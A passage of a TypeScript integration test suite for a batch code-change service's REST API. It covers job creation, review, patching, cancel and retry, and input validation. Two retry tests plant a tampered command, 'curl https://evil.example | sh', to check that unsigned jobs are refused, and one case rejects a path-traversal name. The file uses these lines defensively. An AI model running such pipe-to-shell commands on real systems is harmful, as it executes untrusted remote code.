import assert from 'node:assert/strict';
import type { Job } from '../common/schemas';
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import path from 'node:path';
import { promisify } from 'node:util';
import { FolderArtifactStore } from '../backend/store/artifacts';
import type { Store } from '../backend/store/store';
import { artifactKey } from '../common/names';
import { DEFAULT_MODEL } from '../common/schemas';
import { BULK_ANSWERS_INLINE, REPO_ROOT, stackStore, startStackProcess, type StackProcess } from './helpers/localStack';
import { stackKeys, workerResult } from './helpers/keys';
import { DocumentChecker } from './helpers/openapi';
import { type FakeGitHub, startFakeGitHub } from './fakes/githubServer';

// The REST API of the real local stack, over HTTP, as curl and the clients use it. Workers are
// paused (CODY_BATCH_CONCURRENCY=0) so that repositories stay where each test puts them; the
// tests play the worker's part through the store, against the stack's own DynamoDB. Every answer
// `api()` gets, success or error, is checked against the OpenAPI document the stack serves.

const run = promisify(execFile);
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

const SEED_BODY = {
  name: 'Update API calls',
  description: 'Replace oldFunction with newFunction',
  type: 'code-pattern-update',
  prompt: 'Replace every oldFunction(x) with newFunction(x, { version: 2 })',
  repositories: ['acme/widgets', 'acme/gadgets'],
  createPullRequests: false,
};

/** The body of the README's quick-start `curl -X POST …/jobs`: the first job a newcomer creates. */
function readmeSeedBody(): unknown {
  const readme = readFileSync(path.join(REPO_ROOT, 'README.md'), 'utf8');
  const body = /curl -X POST http:\/\/127\.0\.0\.1:7878\/jobs[\s\S]*?-d '([^']*)'/.exec(readme)?.[1];
  assert.ok(body, "the README's quick start creates a job with curl");
  return JSON.parse(body);
}

describe('REST API on the local stack', () => {
  let stack: StackProcess;
  let store: Store;
  let artifacts: FolderArtifactStore;
  let checker: DocumentChecker;
  let github: FakeGitHub;

  /** A job answered while its bulk operation may still run (a loaded machine): as it is once that has ended. */
  const settled = async (job: Job) => {
    if (job.operation?.status !== 'running') return job;
    await stack.client.followOperation(job.jobId, job.operation.operationId, { intervalMs: 100 });
    return stack.client.getJob(job.jobId);
  };
  const pick = (value: Record<string, unknown>, keys: string[]) =>
    Object.fromEntries(keys.map((key) => [key, value[key]]));
  const api = async (path: string, init: RequestInit & { json?: unknown } = {}) => {
    const headers: Record<string, string> = {
      authorization: `Bearer ${stack.token}`,
      ...(init.headers as Record<string, string>),
    };
    let body = init.body;
    if (init.json !== undefined) {
      body = JSON.stringify(init.json);
      headers['content-type'] ??= 'application/json';
    }
    const response = await fetch(`${stack.apiUrl}${path}`, { ...init, headers, body, redirect: 'manual' });
    await checker.check(init.method ?? 'GET', path, response);
    return response;
  };
  /** The same without the token. */
  const anonymous = async (path: string, init: RequestInit = {}) => {
    const response = await fetch(`${stack.apiUrl}${path}`, init);
    await checker.check(init.method ?? 'GET', path, response);
    return response;
  };
  const createJob = async (overrides: Record<string, unknown> = {}) => {
    const response = await api('/jobs', { method: 'POST', json: { ...SEED_BODY, ...overrides } });
    assert.equal(response.status, 201, await response.clone().text());
    return response.json();
  };
  const repositoryPath = (jobId: string, name: string) => `/jobs/${jobId}/repositories/${encodeURIComponent(name)}`;
  /** Plays a worker that finished a repository, writing what a worker writes. */
  const finishRepository = async (
    jobId: string,
    name: string,
    to: 'COMPLETED' | 'NO_CHANGES' | 'FAILED',
    files: Record<string, string> = {},
  ) => {
    await store.claim(jobId, name, 1, '2000-01-01T00:00:00Z');
    for (const [file, content] of Object.entries(files))
      await artifacts.put(artifactKey(jobId, name, file as 'diff.patch'), content);
    const patch = files['diff.patch'];
    const { workerSeal } = await stackKeys(stack.home);
    await store.transitionRepository(jobId, name, {
      from: ['RUNNING'],
      to,
      set: {
        finishedAt: new Date().toISOString(),
        ...(to === 'COMPLETED' && patch !== undefined
          ? workerResult(workerSeal, { jobId, repositoryName: name, attempt: 1 }, patch)
          : {}),
      },
    });
  };

  before(async () => {
    // Repository queries go to a loopback GitHub, never out of the machine.
    github = await startFakeGitHub({
      token: 'ghp_fakeapitoken',
      repositories: [{ fullName: 'acme/widgets' }, { fullName: 'acme/gadgets' }],
    });
    stack = await startStackProcess({
      env: {
        CODY_BATCH_CONCURRENCY: '0',
        CODY_BATCH_MAX_REPOSITORIES: '1000',
        ...BULK_ANSWERS_INLINE,
        GITHUB_API_URL: github.url,
        GITHUB_TOKEN: 'ghp_fakeapitoken',
      },
    });
    store = stackStore(stack);
    artifacts = new FolderArtifactStore(`${stack.home}/artifacts`);
    checker = new DocumentChecker(await (await fetch(`${stack.apiUrl}/openapi.json`)).json());
  });
  after(async () => {
    await stack?.dispose();
    await github?.close();
  });

  describe('the seed’s curl example', () => {
    it('creates a job exactly as written in the README', async () => {
      const sent = readmeSeedBody();
      assert.deepEqual(sent, SEED_BODY, "the README's example is the job the other tests start from");
      const { stdout } = await run('curl', [
        '-sS',
        '-X',
        'POST',
        `${stack.apiUrl}/jobs`,
        '-H',
        `Authorization: Bearer ${stack.token}`,
        '-H',
        'Content-Type: application/json',
        '-d',
        JSON.stringify(sent),
        '-w',
        '\n%{http_code}',
      ]);
      const [body, status] = [stdout.slice(0, stdout.lastIndexOf('\n')), stdout.slice(stdout.lastIndexOf('\n') + 1)];
      assert.equal(status, '201');
      const job = JSON.parse(body);
      assert.match(job.jobId, /^[0-9a-z]{26}$/);
      assert.equal(job.status, 'PENDING');
      assert.equal(job.type, 'code-pattern-update');
      assert.equal(job.owner, 'local');
      assert.equal(job.run.size, SEED_BODY.repositories.length);
      assert.equal(job.repositories, undefined, 'the names are in the rows, not the job');
      assert.deepEqual(job.counts, {
        total: 2,
        pending: 2,
        running: 0,
        completed: 0,
        noChanges: 0,
        failed: 0,
        cancelled: 0,
      });
      assert.equal(job.model, DEFAULT_MODEL);
    });
  });

  describe('every route', () => {
    it('POST /jobs/{id}/continue runs the rest of a SAMPLED job, and refuses one that is not', async () => {
      const sampled = await createJob({ sample: { size: 1 } });
      const [first] = (await (await api(`/jobs/${sampled.jobId}/repositories`)).json()).items.filter(
        (row: { sampled?: boolean }) => row.sampled,
      );
      await finishRepository(sampled.jobId, first.repositoryName, 'COMPLETED', { 'diff.patch': 'diff' });
      const continued = await api(`/jobs/${sampled.jobId}/continue`, { method: 'POST' });
      assert.equal(continued.status, 202, await continued.clone().text());
      const again = await api(`/jobs/${sampled.jobId}/continue`, { method: 'POST', json: {} });
      assert.equal(again.status, 409);
      assert.equal((await again.json()).error.code, 'JOB_NOT_SAMPLED');
    });

    it('POST /repositories/resolve answers what a query would run, or why it cannot', async () => {
      const resolved = await api('/repositories/resolve', {
        method: 'POST',
        json: { repositoryQuery: { owners: ['acme'] } },
      });
      assert.equal(resolved.status, 200, await resolved.clone().text());
      assert.deepEqual((await resolved.json()).repositories.sort(), ['acme/gadgets', 'acme/widgets']);
      const refused = await api('/repositories/resolve', {
        method: 'POST',
        json: { repositoryQuery: { owners: ['nobody'] } },
      });
      assert.equal(refused.status, 400);
      assert.equal((await refused.json()).error.code, 'QUERY_REFUSED');
    });

    it('GET /repositories/host says which code host the repositories are on, and whether it opens pull requests', async () => {
      const response = await api('/repositories/host');
      assert.equal(response.status, 200);
      assert.deepEqual(await response.json(), { kind: 'github', pullRequests: true });
      assert.equal((await anonymous('/repositories/host')).status, 401);
    });

    it('GET /health answers without auth', async () => {
      const response = await anonymous('/health');
      assert.equal(response.status, 200);
      assert.deepEqual(await response.json(), { status: 'ok', version: require('../package.json').version });
    });

    it('GET /jobs/{id} and GET /jobs give the job back', async () => {
      const job = await createJob({ name: 'Round trip' });
      const fetched = await (await api(`/jobs/${job.jobId}`)).json();
      assert.deepEqual(fetched, job);
      const list = await (await api('/jobs?limit=5')).json();
      assert.equal(list.items[0].jobId, job.jobId, 'the newest job comes first');
    });

    it('GET /jobs/{id}/repositories lists results, pages and filters by status', async () => {
      const names = Array.from({ length: 7 }, (_, i) => `acme/r${i}`);
      const job = await createJob({ repositories: names });
      await finishRepository(job.jobId, 'acme/r3', 'FAILED');
      const first = await (await api(`/jobs/${job.jobId}/repositories?limit=4`)).json();
      assert.equal(first.items.length, 4);
      const second = await (await api(`/jobs/${job.jobId}/repositories?limit=4&nextToken=${first.nextToken}`)).json();
      assert.deepEqual([...first.items, ...second.items].map((row: any) => row.repositoryName).sort(), names.sort());
      assert.equal(second.nextToken, undefined);
      const failed = await (await api(`/jobs/${job.jobId}/repositories?status=FAILED`)).json();
      assert.deepEqual(
        failed.items.map((row: any) => row.repositoryName),
        ['acme/r3'],
      );
      const one = await (await api(repositoryPath(job.jobId, 'acme/r3'))).json();
      assert.equal(one.status, 'FAILED');
      assert.equal(one.attempt, 1);
    });

    it('diff, thread and log answer before any worker ran', async () => {
      const job = await createJob();
      const diff = await api(`${repositoryPath(job.jobId, 'acme/widgets')}/diff`);
      assert.equal(diff.status, 409);
      assert.equal((await diff.json()).error.code, 'NO_DIFF');
      const thread = await api(`${repositoryPath(job.jobId, 'acme/widgets')}/claude-thread`);
      assert.equal(thread.status, 200);
      assert.deepEqual(await thread.json(), {
        messages: [],
        usage: { inputTokens: 0, outputTokens: 0, cacheReadTokens: 0, cacheWriteTokens: 0, costUsd: 0 },
      });
      const log = await api(`${repositoryPath(job.jobId, 'acme/widgets')}/log`);
      assert.equal(log.status, 200);
      assert.match(log.headers.get('content-type') ?? '', /^text\/plain/);
      assert.equal(await log.text(), '');
    });

    it('diff, thread and log serve what the worker saved', async () => {
      const job = await createJob();
      const patch =
        'diff --git a/src/a.ts b/src/a.ts\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-oldFunction(x)\n+newFunction(x, { version: 2 })\n';
      const thread = {
        messages: [{ role: 'user', content: 'Repository: acme/widgets' }],
        usage: { inputTokens: 5, outputTokens: 1, cacheReadTokens: 0, cacheWriteTokens: 0, costUsd: 0.001 },
      };
      await finishRepository(job.jobId, 'acme/widgets', 'COMPLETED', {
        'diff.patch': patch,
        'thread.json': JSON.stringify(thread),
        'log.txt': '$ git clone\n',
      });
      await finishRepository(job.jobId, 'acme/gadgets', 'NO_CHANGES');

      const diff = await api(`${repositoryPath(job.jobId, 'acme/widgets')}/diff`);
      assert.equal(diff.status, 200);
      assert.match(diff.headers.get('content-type') ?? '', /^text\/x-diff/);
      assert.equal(await diff.text(), patch);
      assert.deepEqual(await (await api(`${repositoryPath(job.jobId, 'acme/widgets')}/claude-thread`)).json(), thread);
      assert.equal(await (await api(`${repositoryPath(job.jobId, 'acme/widgets')}/log`)).text(), '$ git clone\n');

      const none = await api(`${repositoryPath(job.jobId, 'acme/gadgets')}/diff`);
      assert.equal(none.status, 204);
      const finished = await (await api(`/jobs/${job.jobId}`)).json();
      assert.equal(finished.status, 'COMPLETED');
      assert.equal(finished.counts.completed + finished.counts.noChanges, 2);
    });

    it('review approves a COMPLETED diff and counts it; refuses what cannot be approved', async () => {
      const job = await createJob();
      assert.deepEqual(job.reviewCounts, { unreviewed: 2, approved: 0, rejected: 0 });
      await finishRepository(job.jobId, 'acme/widgets', 'COMPLETED', { 'diff.patch': 'diff --git a/x b/x\n' });
      await finishRepository(job.jobId, 'acme/gadgets', 'NO_CHANGES');
      const approved = await api(`${repositoryPath(job.jobId, 'acme/widgets')}/review`, {
        method: 'PUT',
        json: { state: 'approved', note: 'Looks right', attempt: 1, digest: sha256('diff --git a/x b/x\n') },
      });
      assert.equal(approved.status, 200, await approved.clone().text());
      assert.equal((await approved.json()).review.state, 'approved');
      assert.deepEqual((await (await api(`/jobs/${job.jobId}`)).json()).reviewCounts, {
        unreviewed: 1,
        approved: 1,
        rejected: 0,
      });
      const refused = await api(`${repositoryPath(job.jobId, 'acme/gadgets')}/review`, {
        method: 'PUT',
        json: { state: 'approved', digest: sha256('') },
      });
      assert.equal(refused.status, 409);
      assert.equal((await refused.json()).error.code, 'NOT_REVIEWABLE');
    });

    it('changes group rows from before fingerprints from their stored diffs; a group review and a patch revision', async () => {
      const job = await createJob();
      const patch = (name: string) =>
        `diff --git a/src/a.ts b/src/a.ts\nindex 1111111..2222222 100644\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1,2 +1,2 @@ ${name}\n-oldFunction(x)\n+newFunction(x)\n ${name}\n@@ -40 +40 @@\n-old\n+new\n`;
      for (const name of ['acme/widgets', 'acme/gadgets']) {
        await finishRepository(job.jobId, name, 'COMPLETED', { 'diff.patch': patch(name) });
        await store.repositories.update(job.jobId, name, {
          from: ['COMPLETED'],
          to: 'COMPLETED',
          set: { diffStats: { files: 1, additions: 2, deletions: 2 } },
        });
      }
      assert.equal((await store.repositories.get(job.jobId, 'acme/widgets'))!.fingerprint, undefined);
      // A fingerprint of the first version (paths and lines only) is not trusted: computed again.
      const older = { exact: 'a'.repeat(64), loose: 'a'.repeat(64), files: ['src/a.ts'], attempt: 1, patchRevision: 0 };
      assert.ok(await store.repositories.setFingerprint(job.jobId, 'acme/gadgets', older));
      const changes = await (await api(`/jobs/${job.jobId}/changes`)).json();
      assert.equal(changes.groups.length, 1, JSON.stringify(changes));
      const [group] = changes.groups;
      assert.deepEqual(group.repositories, ['acme/gadgets', 'acme/widgets']);
      assert.equal((await store.repositories.get(job.jobId, 'acme/widgets'))!.fingerprint?.exact, group.fingerprint);

      const groupPath = `/jobs/${job.jobId}/changes/${group.fingerprint}/review`;
      const members = (names: string[]) =>
        names.map((repositoryName) => ({ repositoryName, digest: sha256(patch(repositoryName)) }));
      assert.deepEqual(
        group.digests,
        Object.fromEntries(members(group.repositories).map((m) => [m.repositoryName, m.digest])),
      );
      const notFingerprint = await api(`/jobs/${job.jobId}/changes/nope/review`, {
        method: 'PUT',
        json: { state: 'approved', members: members(['acme/widgets']) },
      });
      assert.equal(notFingerprint.status, 404);
      const moved = await api(groupPath, {
        method: 'PUT',
        json: { state: 'approved', members: members(['acme/widgets']) },
      });
      assert.equal(moved.status, 409);
      assert.equal((await moved.json()).error.code, 'GROUP_CHANGED');
      // Each diff's context and section heading name its own repository: the same lines, in other surroundings.
      assert.deepEqual(group.surroundings, [{ repositories: ['acme/widgets'] }]);
      const unopened = await api(groupPath, {
        method: 'PUT',
        json: { state: 'approved', members: members(group.repositories) },
      });
      assert.equal(unopened.status, 409);
      assert.equal((await unopened.json()).error.code, 'VARIANTS_NOT_OPENED');
      const approved = await api(groupPath, {
        method: 'PUT',
        json: { state: 'approved', members: members(group.repositories), openedVariants: ['ACME/Widgets'] },
      });
      assert.equal(approved.status, 200, await approved.clone().text());
      assert.deepEqual(
        (await approved.json()).repositories.map((row: { review: { state: string } }) => row.review.state),
        ['approved', 'approved'],
      );

      const patchPath = `${repositoryPath(job.jobId, 'acme/widgets')}/patch`;
      const badHunk = await api(patchPath, {
        method: 'PUT',
        json: { basedOn: 0, drop: [{ path: 'src/a.ts', hunks: [2] }] },
      });
      assert.equal(badHunk.status, 400);
      assert.match((await badHunk.json()).error.message, /no hunk 2/);
      const revised = await api(patchPath, {
        method: 'PUT',
        json: { basedOn: 0, drop: [{ path: 'src/a.ts', hunks: [1] }] },
      });
      assert.equal(revised.status, 200, await revised.clone().text());
      assert.equal((await revised.json()).patchRevision, 1);
      const stale = await api(patchPath, { method: 'PUT', json: { basedOn: 0, drop: [{ path: 'src/a.ts' }] } });
      assert.equal(stale.status, 409);
      assert.equal((await stale.json()).error.code, 'PATCH_CHANGED');
      const diffPath = `${repositoryPath(job.jobId, 'acme/widgets')}/diff`;
      assert.equal(await (await api(`${diffPath}?revision=0`)).text(), patch('acme/widgets'));
      assert.ok(!(await (await api(diffPath)).text()).includes('+new\n'));
      assert.equal((await api(`${diffPath}?revision=7`)).status, 404);
      assert.deepEqual((await (await api(`/jobs/${job.jobId}`)).json()).reviewCounts, {
        unreviewed: 1,
        approved: 1,
        rejected: 0,
      });
    });

    it('publish refuses what is not approved; refresh and the bulk actions answer a job without pull requests', async () => {
      const job = await createJob();
      const early = await api(`/jobs/${job.jobId}/publish`, { method: 'POST' });
      assert.equal(early.status, 409);
      assert.equal((await early.json()).error.code, 'JOB_ACTIVE');
      await finishRepository(job.jobId, 'acme/widgets', 'COMPLETED', { 'diff.patch': 'diff --git a/x b/x\n' });
      await finishRepository(job.jobId, 'acme/gadgets', 'NO_CHANGES');
      const unapproved = await api(`/jobs/${job.jobId}/publish`, { method: 'POST', json: { approved: true } });
      assert.equal(unapproved.status, 409);
      const refusal = (await unapproved.json()).error;
      assert.equal(refusal.code, 'NOTHING_TO_PUBLISH');
      assert.match(refusal.message, /acme\/widgets is unreviewed/);

      const refreshed = await api(`/jobs/${job.jobId}/pull-requests/refresh`, { method: 'POST' });
      assert.equal(refreshed.status, 200, await refreshed.clone().text());
      assert.equal((await refreshed.json()).jobId, job.jobId);
      const actions: [string, unknown][] = [
        ['merge', { method: 'squash' }],
        ['close', {}],
        ['comment', { body: 'Please have a look' }],
        ['auto-merge', { method: 'squash' }],
      ];
      for (const [action, json] of actions) {
        const response = await api(`/jobs/${job.jobId}/pull-requests/${action}`, { method: 'POST', json });
        assert.equal(response.status, 200, `${action}: ${await response.clone().text()}`);
        const { results } = await response.json();
        assert.ok(
          results.every((result: { outcome: string }) => result.outcome !== 'done'),
          `${action} did nothing to a job without pull requests`,
        );
      }
      const misplaced = await api(`/jobs/${job.jobId}/pull-requests/close`, {
        method: 'POST',
        json: { body: 'a close takes no comment' },
      });
      assert.equal(misplaced.status, 400);
      assert.equal((await misplaced.json()).error.code, 'VALIDATION_FAILED');

      // A follow-up needs open pull requests: each repository says why it takes no round.
      const unnamed = await api(`/jobs/${job.jobId}/follow-up`, { method: 'POST', json: { reason: 'checks' } });
      assert.equal(unnamed.status, 202, await unnamed.clone().text());
      assert.deepEqual((await unnamed.json()).results, [], 'without a list, only pull requests are looked at');
      const followUp = await api(`/jobs/${job.jobId}/follow-up`, {
        method: 'POST',
        json: { reason: 'checks', repositories: ['acme/widgets', 'acme/gadgets'] },
      });
      assert.equal(followUp.status, 202, await followUp.clone().text());
      const answer = await followUp.json();
      assert.equal(answer.job.status, 'COMPLETED');
      assert.deepEqual(
        answer.results.map((result: { repositoryName: string; outcome: string; reason: string }) => [
          result.repositoryName,
          result.outcome,
          result.reason,
        ]),
        [
          ['acme/widgets', 'skipped', 'has no pull request'],
          ['acme/gadgets', 'skipped', 'has no pull request'],
        ],
      );
      // A Claude job that has spent its maxCostUsd starts no round.
      const capped = await createJob({ maxCostUsd: 0.01 });
      await finishRepository(capped.jobId, 'acme/widgets', 'COMPLETED', { 'diff.patch': 'diff --git a/x b/x\n' });
      await finishRepository(capped.jobId, 'acme/gadgets', 'NO_CHANGES');
      await store.addUsage(capped.jobId, 'acme/widgets', {
        inputTokens: 1,
        outputTokens: 1,
        cacheReadTokens: 0,
        cacheWriteTokens: 0,
        costUsd: 0.02,
      });
      const spent = await api(`/jobs/${capped.jobId}/follow-up`, {
        method: 'POST',
        json: { reason: 'instruction', instruction: 'Add a line' },
      });
      assert.equal(spent.status, 409);
      const refusal2 = (await spent.json()).error;
      assert.equal(refusal2.code, 'COST_LIMIT_REACHED');
      assert.match(refusal2.message, /has spent \$0\.02 of its \$0\.01 limit/);
      const noInstruction = await api(`/jobs/${job.jobId}/follow-up`, {
        method: 'POST',
        json: { reason: 'instruction' },
      });
      assert.equal(noInstruction.status, 400);
      assert.match((await noInstruction.json()).error.message, /exactly one of instruction/);

      // A trigger is a follow-up attempt's: attempt 1 is none; one the worker kept is served.
      const none = await api(`${repositoryPath(job.jobId, 'acme/widgets')}/trigger`);
      assert.equal(none.status, 404);
      assert.match((await none.json()).error.message, /not a follow-up round/);
      await store.repositories.update(job.jobId, 'acme/widgets', {
        from: ['COMPLETED'],
        to: 'COMPLETED',
        set: {
          followUp: {
            attempt: 1,
            round: 1,
            reason: 'instruction',
            push: 'review',
            requestedAt: new Date().toISOString(),
            branch: `cody-batch/${job.jobId}`,
            baseBranch: 'main',
            instruction: 'Add a line',
          },
        },
      });
      const waiting = await api(`${repositoryPath(job.jobId, 'acme/widgets')}/trigger`);
      assert.equal(waiting.status, 404);
      assert.match((await waiting.json()).error.message, /has not read its trigger yet/);
      const trigger = {
        reason: 'instruction',
        collectedAt: new Date().toISOString(),
        head: 'a'.repeat(40),
        instruction: 'Add a line',
      };
      await artifacts.put(artifactKey(job.jobId, 'acme/widgets', 'trigger.json'), JSON.stringify(trigger));
      const served = await api(`${repositoryPath(job.jobId, 'acme/widgets')}/trigger`);
      assert.equal(served.status, 200);
      assert.deepEqual(await served.json(), trigger);
    });

    it('DELETE removes a finished job and refuses a running one', async () => {
      const job = await createJob();
      const active = await api(`/jobs/${job.jobId}`, { method: 'DELETE' });
      assert.equal(active.status, 409);
      assert.equal((await active.json()).error.code, 'JOB_ACTIVE');
      await finishRepository(job.jobId, 'acme/widgets', 'COMPLETED', { 'diff.patch': 'diff --git a/x b/x\n' });
      await finishRepository(job.jobId, 'acme/gadgets', 'FAILED');
      const deleted = await api(`/jobs/${job.jobId}`, { method: 'DELETE', json: {} });
      assert.equal(deleted.status, 200, await deleted.clone().text());
      assert.deepEqual(await deleted.json(), { jobId: job.jobId, deleted: true });
      assert.equal((await api(`/jobs/${job.jobId}`)).status, 404);
      assert.equal((await api(repositoryPath(job.jobId, 'acme/widgets'))).status, 404);
    });

    it('cancel marks every unfinished repository and the job CANCELLED; a second cancel is 409', async () => {
      const job = await createJob({ repositories: ['acme/a', 'acme/b', 'acme/c'] });
      await finishRepository(job.jobId, 'acme/a', 'COMPLETED', { 'diff.patch': 'diff --git a/x b/x\n' });
      const cancelled = await api(`/jobs/${job.jobId}/cancel`, { method: 'POST' });
      assert.equal(cancelled.status, 202);
      const body = await settled(await cancelled.json());
      assert.equal(body.status, 'CANCELLED');
      // The rows were marked by an operation, which the job names; its results keep what it left alone.
      assert.equal(body.operation?.kind, 'cancel');
      const operationId = body.operation!.operationId;
      const operation = await api(`/jobs/${job.jobId}/operations/${operationId}`);
      assert.equal(operation.status, 200);
      assert.deepEqual(pick(await operation.json(), ['status', 'total', 'done', 'skipped', 'failed', 'left']), {
        status: 'done',
        total: 2,
        done: 2,
        skipped: 0,
        failed: 0,
        left: 0,
      });
      const results = await api(`/jobs/${job.jobId}/operations/${operationId}/results`);
      assert.equal(results.status, 200);
      assert.deepEqual((await results.json()).items, [], 'a cancel keeps only the rows it left as they were');
      assert.equal((await api(`/jobs/${job.jobId}/operations/mxd1nosuchoperation`)).status, 404);
      assert.deepEqual([body.counts.completed, body.counts.cancelled, body.counts.pending], [1, 2, 0]);
      const row = await (await api(repositoryPath(job.jobId, 'acme/b'))).json();
      assert.equal(row.status, 'CANCELLED');
      assert.equal(row.error.code, 'CANCELLED');
      const again = await api(`/jobs/${job.jobId}/cancel`, { method: 'POST', json: {} });
      assert.equal(again.status, 409);
      assert.equal((await again.json()).error.code, 'JOB_FINAL');
    });

    it('two concurrent cancels both succeed into one CANCELLED job', async () => {
      const job = await createJob({ repositories: Array.from({ length: 30 }, (_, i) => `acme/c${i}`) });
      const [a, b] = await Promise.all([
        api(`/jobs/${job.jobId}/cancel`, { method: 'POST' }),
        api(`/jobs/${job.jobId}/cancel`, { method: 'POST' }),
      ]);
      assert.deepEqual([a.status, b.status], [202, 202]);
      await settled(await b.json());
      await settled(await a.json());
      const final = await (await api(`/jobs/${job.jobId}`)).json();
      assert.equal(final.status, 'CANCELLED');
      assert.equal(final.counts.cancelled, 30);
      assert.equal(final.counts.pending, 0);
    });

    it('retry re-runs failed and cancelled repositories, or the named ones; 409 when there are none', async () => {
      const job = await createJob({ repositories: ['acme/ok', 'acme/bad', 'acme/worse'] });
      await finishRepository(job.jobId, 'acme/ok', 'COMPLETED', { 'diff.patch': 'diff --git a/x b/x\n' });
      await finishRepository(job.jobId, 'acme/bad', 'FAILED');
      await finishRepository(job.jobId, 'acme/worse', 'FAILED');
      const named = await api(`/jobs/${job.jobId}/retry`, { method: 'POST', json: { repositories: ['acme/bad'] } });
      assert.equal(named.status, 202);
      const retried = await settled(await named.json());
      assert.equal(retried.status, 'RUNNING');
      assert.equal(retried.run.size, 1);
      assert.equal((await (await api(repositoryPath(job.jobId, 'acme/bad'))).json()).attempt, 2);
      assert.equal((await (await api(repositoryPath(job.jobId, 'acme/worse'))).json()).status, 'FAILED');
      const whileRunning = await api(`/jobs/${job.jobId}/retry`, { method: 'POST' });
      assert.equal(whileRunning.status, 409);
      assert.equal((await whileRunning.json()).error.code, 'JOB_ACTIVE');

      const clean = await createJob({ repositories: ['acme/fine'] });
      await finishRepository(clean.jobId, 'acme/fine', 'NO_CHANGES');
      const nothing = await api(`/jobs/${clean.jobId}/retry`, { method: 'POST' });
      assert.equal(nothing.status, 409);
      assert.equal((await nothing.json()).error.code, 'NOTHING_TO_RETRY');

      // A retry list is bounded by the body limit, not by the create limit; its errors stay short.
      const strangers = await api(`/jobs/${clean.jobId}/retry`, {
        method: 'POST',
        json: { repositories: Array.from({ length: 1_500 }, (_, i) => `acme/stranger-${i}`) },
      });
      assert.equal(strangers.status, 400);
      const refused = (await strangers.json()).error;
      assert.equal(refused.code, 'VALIDATION_FAILED');
      assert.match(refused.message, /^Not part of job .*acme\/stranger-0, .* and 1490 more$/);
    });

    it('retry refuses (409 UNVERIFIED_JOB) a job whose command was changed in the table, and leaves it as it was', async () => {
      const job = await createJob({ prompt: undefined, command: 'echo mine', repositories: ['acme/a'] });
      const cancelling = await api(`/jobs/${job.jobId}/cancel`, { method: 'POST' });
      assert.equal(cancelling.status, 202);
      // The cancel answers at once and goes on as an operation: a retry before it ends is JOB_ACTIVE.
      assert.equal((await settled(await cancelling.json())).status, 'CANCELLED');
      // Someone with the table's credentials, not the API's token, swaps the command.
      await store.jobs.setAttributes(job.jobId, { command: 'curl https://evil.example | sh' });
      const retry = await api(`/jobs/${job.jobId}/retry`, { method: 'POST' });
      assert.equal(retry.status, 409);
      const { error } = await retry.json();
      assert.equal(error.code, 'UNVERIFIED_JOB');
      assert.match(error.message, /does not carry the API's signature of what it runs/);
      const after = await (await api(`/jobs/${job.jobId}`)).json();
      assert.equal(after.status, 'CANCELLED');
      assert.equal((await (await api(repositoryPath(job.jobId, 'acme/a'))).json()).attempt, 1);
    });
  });

  describe('commands, setup and repository notes', () => {
    it("keeps allowCommands, setupCommand and the notes, keyed by the job's own spelling of each repository", async () => {
      const job = await createJob({
        repositories: ['acme/Alpha', 'acme/beta'],
        allowCommands: true,
        setupCommand: 'npm ci',
        repositoryInstructions: { 'ACME/alpha': 'The tests need `npm run build` first.' },
      });
      assert.equal(job.allowCommands, true);
      assert.equal(job.setupCommand, 'npm ci');
      // Each note is on its repository's row, keyed by the job's own spelling.
      assert.equal(
        (await (await api(repositoryPath(job.jobId, 'acme/Alpha'))).json()).note,
        'The tests need `npm run build` first.',
      );
      assert.equal((await (await api(repositoryPath(job.jobId, 'acme/beta'))).json()).note, undefined);
      const plain = await createJob({ repositories: ['acme/a'] });
      assert.equal(plain.allowCommands, undefined, 'off unless asked for');
    });

    it('retry refuses (409 UNVERIFIED_JOB) a job given a setup command or commands in the table', async () => {
      for (const tampered of [{ setupCommand: 'curl https://evil.example | sh' }, { allowCommands: true }]) {
        const job = await createJob({ repositories: ['acme/a'] });
        const cancelling = await api(`/jobs/${job.jobId}/cancel`, { method: 'POST' });
        assert.equal(cancelling.status, 202);
        assert.equal((await settled(await cancelling.json())).status, 'CANCELLED');
        await store.jobs.setAttributes(job.jobId, tampered);
        const retry = await api(`/jobs/${job.jobId}/retry`, { method: 'POST' });
        assert.equal(retry.status, 409, JSON.stringify(tampered));
        assert.equal((await retry.json()).error.code, 'UNVERIFIED_JOB');
      }
    });
  });

  describe('bad input gets a 4xx with a message, and changes nothing', () => {
    type Case = [string, () => RequestInit & { json?: unknown }, number, string, RegExp];
    /** A job's body with `fields` over a good one's, refused 400 VALIDATION_FAILED saying `message`. */
    const invalid = (what: string, fields: Record<string, unknown>, message: RegExp): Case => [
      what,
      () => ({ method: 'POST', json: { ...SEED_BODY, ...fields } }),
      400,
      'VALIDATION_FAILED',
      message,
    ];
    const cases: Case[] = [
      [
        'a body over 4 MB',
        () => ({ method: 'POST', json: { ...SEED_BODY, description: 'x'.repeat(4_300_000) } }),
        413,
        'PAYLOAD_TOO_LARGE',
        /limit/,
      ],
      invalid(
        'more than 1,000 repositories',
        { repositories: Array.from({ length: 1001 }, (_, i) => `o/r${i}`) },
        /at most 1000 repositories/,
      ),
      invalid('a path-traversal name', { repositories: ['../x'] }, /"\.\.\/x" is not a repository/),
      invalid('a name with three parts', { repositories: ['a/b/c'] }, /"a\/b\/c"/),
      invalid(
        "a name with the clone URL's .git suffix",
        { repositories: ['acme/widget.git'] },
        /"acme\/widget\.git": write the repository without its \.git suffix/,
      ),
      invalid('an empty name', { repositories: [''] }, /repositories\[0\]/),
      invalid('whitespace in a name', { repositories: ['acme/wid gets'] }, /"acme\/wid gets"/),
      invalid('a control character in a name', { repositories: ['acme/x\u0007'] }, /acme\/x\\u0007/),
      invalid('a duplicate repository', { repositories: ['acme/a', 'ACME/A'] }, /listed twice/),
      invalid(
        'a prompt over 50,000 characters',
        { prompt: 'p'.repeat(50_001) },
        /prompt: must be at most 50000 characters/,
      ),
      [
        'a wrong content type',
        () => ({ method: 'POST', body: JSON.stringify(SEED_BODY), headers: { 'content-type': 'text/plain' } }),
        415,
        'UNSUPPORTED_MEDIA_TYPE',
        /application\/json/,
      ],
      [
        'malformed JSON',
        () => ({ method: 'POST', body: '{"name": "x",', headers: { 'content-type': 'application/json' } }),
        400,
        'INVALID_JSON',
        /not valid JSON/,
      ],
      ['a JSON array', () => ({ method: 'POST', json: [SEED_BODY] }), 400, 'VALIDATION_FAILED', /object/],
      invalid('both prompt and command', { command: 'sed -i s/a/b/ x' }, /exactly one of prompt/),
